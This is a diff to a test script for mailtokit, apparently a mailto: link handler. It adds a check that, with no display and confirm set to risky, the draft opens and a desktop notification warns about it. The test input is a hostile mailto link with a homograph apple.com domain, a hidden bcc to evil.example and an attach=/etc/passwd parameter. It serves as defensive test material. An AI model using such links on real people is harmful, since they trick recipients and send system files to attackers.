@@ -8,7 +8,8 @@ mailtokit runs as a browser runs it (no terminal). Each failure path runs twice:
   X desktop and closed with its OK button; its argv and text are recorded: --error, --no-markup,
   the reason, what to do, where the draft is);
 - without a display: a critical notification (notify-send argv recorded, markup escaped).
-Paths: a link that is not mailto:, a mailto: link the parser refuses (too many recipients), a
+The fallback without a display (confirm = risky: opened, the notification says so) is checked
+too. Paths: a link that is not mailto:, a mailto: link the parser refuses (too many recipients), a
 broken configuration, confirm = always with no way to ask, no mail client found, a client that
 cannot be started, a client that exits at once with an error, a client that fails under --wait,
 an unusable `command`. Where a draft exists, the .eml file in the drafts directory is checked
@@ -134,6 +135,18 @@ with Session("open-failures") as s:
     s.screenshot(RESULTS / "open_failure_kdialog.png")
     click_button(s, win, 0, 1, RESULTS / "open_failure_kdialog_click.png")
     s.wait_window(r"^mailtokit: the link was not opened", timeout=10, gone=True)
+
+    # No display, confirm = risky: nobody can be asked, so the draft opens and the desktop is told.
+    d.write_config(f'target = custom\ncommand = "{recorder}" %u\n')
+    d.clear()
+    p, log = d.start(["open", "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&attach=%2Fetc%2Fpasswd"],
+                     env={"DISPLAY": ""})
+    rc = wait_exit(p, 30, "fallback open")
+    n = wait_record(d, "notify-send")
+    check(rc == 0 and len(d.recorded("recorder")) == 1, "no display, confirm = risky: the draft was opened")
+    check(n[1:3] == ["--app-name=mailtokit", "--"] and "opened without asking" in n[-1]
+          and "hidden recipient" in n[-1] and "attach=/etc/passwd" in n[-1] and d.recorded("zenity") == [],
+          f"no display, confirm = risky: the notification says it opened without asking, and why it would have ({n[-1][:200]!r})")
 
     # notify = no: no notification, stderr still tells.
     d.write_config('target = custom\ncommand = /bin/false %u\nnotify = no\n')
